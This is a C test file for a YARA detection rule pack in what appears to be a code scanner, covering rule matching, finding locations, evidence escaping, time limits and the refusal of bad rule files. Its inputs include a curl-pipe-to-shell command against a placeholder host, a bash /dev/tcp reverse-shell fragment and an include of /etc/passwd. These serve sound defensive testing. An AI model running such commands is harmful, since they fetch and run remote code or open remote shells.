/* SPDX-License-Identifier: Apache-2.0 */
/* Every built-in YARA rule against its own samples, and the pack's answers to bad rules and hostile bytes. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "scanner/rules_blob.h"
#include "scanner/yara_pack.h"

static int setup(void **state)
{
    struct hg_error err = {""};
    struct hg_yara *pack = NULL;
    int rc = hg_yara_new(NULL, &pack, &err);
    if (rc != 0)
        print_error("%s\n", err.text);
    *state = pack;
    return rc;
}

static int teardown(void **state)
{
    hg_yara_free(*state);
    return 0;
}

static const struct hg_finding *scan_for(struct hg_yara *pack, const char *text, const char *id,
                                         struct hg_findings *out)
{
    assert_int_equal(hg_yara_scan(pack, (const uint8_t *)text, strlen(text), out), 0);
    for (size_t i = 0; i < out->count; i++) {
        if (strcmp(out->items[i].rule, id) == 0)
            return &out->items[i];
    }
    return NULL;
}

static void every_rule_matches_its_example_only(void **state)
{
    struct hg_yara *pack = *state;
    const struct hg_rule_info *info;
    unsigned rules = 0, wrong = 0;
    for (size_t i = 0; (info = hg_yara_rule(pack, i)) != NULL; i++) {
        if (strcmp(info->kind, "yara") != 0)
            continue;
        struct hg_findings pos = {0}, neg = {0};
        const struct hg_finding *f = scan_for(pack, info->example, info->id, &pos);
        if (f == NULL)
            print_error("%s: does not match its example\n", info->id);
        else if (f->reach != HG_REACH_TEXT || f->severity != info->severity[0] || f->line == 0 ||
                 f->evidence == NULL || f->cwe[0] == 0)
            print_error("%s: incomplete finding\n", info->id);
        else
            rules++;
        wrong += f == NULL;
        if (scan_for(pack, info->counterexample, info->id, &neg) != NULL) {
            print_error("%s: matches its counterexample\n", info->id);
            wrong++;
        }
        hg_findings_clear(&pos);
        hg_findings_clear(&neg);
    }
    assert_int_equal(wrong, 0);
    assert_true(rules >= 28);
}

static void ids_are_in_order_and_well_formed(void **state)
{
    const struct hg_rule_info *info, *last = NULL;
    for (size_t i = 0; (info = hg_yara_rule(*state, i)) != NULL; last = info, i++) {
        unsigned number;
        char tail;
        assert_int_equal(sscanf(info->id, "HG-YARA-%3u%c", &number, &tail), 1);
        assert_int_equal(strlen(info->id), strlen("HG-YARA-000"));
        assert_true(last == NULL || strcmp(last->id, info->id) < 0);
        assert_int_equal(strncmp(info->reference, "https://", 8), 0);
    }
    assert_non_null(last);
}

static void place_is_that_of_the_first_telling_string(void **state)
{
    struct hg_findings out = {0};
    const char *text = "import os\r\nx = 'os.system('\r\n\r  os.system('curl -s http://a.invalid/i | sh')\n";
    const struct hg_finding *f = scan_for(*state, text, "HG-YARA-005", &out);
    assert_non_null(f);
    assert_int_equal(f->line, 4);
    assert_int_equal(f->column, 14);
    assert_string_equal(f->evidence, "curl -s http://a.invalid/i | sh");
    hg_findings_clear(&out);
}

static void evidence_is_escaped_and_short(void **state)
{
    struct hg_findings out = {0};
    char text[400] = "bash -i >& /dev/tcp/\x1b[31m";
    memset(text + strlen(text), 'a', 60);
    (void)strcat(text, "/1");
    const struct hg_finding *f = scan_for(*state, text, "HG-YARA-002", &out);
    assert_non_null(f);
    assert_null(strchr(f->evidence, '\x1b'));
    assert_non_null(strstr(f->evidence, "\\x1b[31m"));
    assert_true(strlen(f->evidence) <= 120);
    hg_findings_clear(&out);
}

static void empty_and_benign_give_nothing(void **state)
{
    struct hg_findings out = {0};
    assert_int_equal(hg_yara_scan(*state, NULL, 0, &out), 0);
    assert_null(scan_for(*state, "import torch\nclass M(torch.nn.Module):\n    pass\n", "", &out));
    assert_int_equal(out.count, 0);
}

/* A million halves of a match end in bounded time, with a finding when the scan gave up. */
static void hostile_bytes_end_in_bounded_time(void **state)
{
    static const char half[] = "os.system('curl |sh";
    size_t n = 4u << 20;
    char *text = malloc(n + 1);
    assert_non_null(text);
    for (size_t i = 0; i < n; i++)
        text[i] = half[i % (sizeof half - 1)];
    text[n] = '\0';
    struct hg_findings out = {0};
    assert_int_equal(hg_yara_scan(*state, (const uint8_t *)text, n, &out), 0);
    assert_true(out.count > 0);
    hg_findings_clear(&out);
    free(text);
}

#define META                                                                                                 \
    "title=\"t\" cwe=\"CWE-1\" confidence=\"low\" description=\"d\" reference=\"r\" remedy=\"m\" "           \
    "example=\"e\" counterexample=\"c\" "

static void bad_extra_rules_are_refused_with_their_place(void **state)
{
    static const struct {
        const char *text, *message;
    } cases[] = {
        {"rule a {\n condition:\n  $x\n}\n", "/x.yar:4: undefined string"},
        {"\nrule a { meta: " META "severity=\"high\" condition: true }\n",
         "/x.yar:2: rule a: meta id is missing"},
        {"rule a { meta: id=\"U-1\" " META "severity=\"huge\" condition: true }\n",
         "/x.yar:1: rule a: meta severity must be"},
        {"rule a { meta: id=\"HG-YARA-001\" " META "severity=\"low\" condition: true }\n",
         "/x.yar:1: rule a: its id belongs to another rule"},
        {"include \"/etc/passwd\"\n", "/x.yar:1: "},
    };
    (void)state;
    char dir[] = "/tmp/hg-yara-XXXXXX", path[64];
    assert_non_null(mkdtemp(dir));
    (void)snprintf(path, sizeof path, "%s/x.yar", dir);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct hg_error err = {""};
        struct hg_yara *pack = NULL;
        FILE *f = fopen(path, "w");
        assert_non_null(f);
        (void)fputs(cases[i].text, f);
        (void)fclose(f);
        assert_int_equal(hg_yara_new(dir, &pack, &err), -EINVAL);
        assert_int_equal(strncmp(err.text, dir, strlen(dir)), 0);
        if (strstr(err.text, cases[i].message) == NULL)
            print_error("case %zu: %s\n", i, err.text);
        assert_non_null(strstr(err.text, cases[i].message));
    }
    FILE *f = fopen(path, "w");
    (void)fputs("rule mine { meta: id=\"U-1\" " META
                "severity=\"low\" strings: $a=\"canary-text\" condition: $a }\n",
                f);
    (void)fclose(f);
    struct hg_yara *pack = NULL;
    struct hg_findings out = {0};
    assert_int_equal(hg_yara_new(dir, &pack, NULL), 0);
    assert_non_null(scan_for(pack, "a canary-text b", "U-1", &out));
    hg_findings_clear(&out);
    hg_yara_free(pack);
    (void)unlink(path);
    (void)rmdir(dir);
    assert_int_equal(hg_yara_new(dir, &pack, NULL), -ENOENT);
}

static void blob_lists_every_rule_file_once(void **state)
{
    (void)state;
    struct hg_rules_entry e;
    size_t cursor = 0, files = 0;
    while (hg_rules_blob_next(&cursor, &e) == 1) {
        assert_true(e.size > 0);
        files += (size_t)hg_rules_entry_is(&e, ".yar");
    }
    assert_int_equal(hg_rules_blob_next(&cursor, &e), 0);
    assert_true(files >= 5);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_matches_its_example_only),
        cmocka_unit_test(ids_are_in_order_and_well_formed),
        cmocka_unit_test(place_is_that_of_the_first_telling_string),
        cmocka_unit_test(evidence_is_escaped_and_short),
        cmocka_unit_test(empty_and_benign_give_nothing),
        cmocka_unit_test(hostile_bytes_end_in_bounded_time),
        cmocka_unit_test(bad_extra_rules_are_refused_with_their_place),
        cmocka_unit_test(blob_lists_every_rule_file_once),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
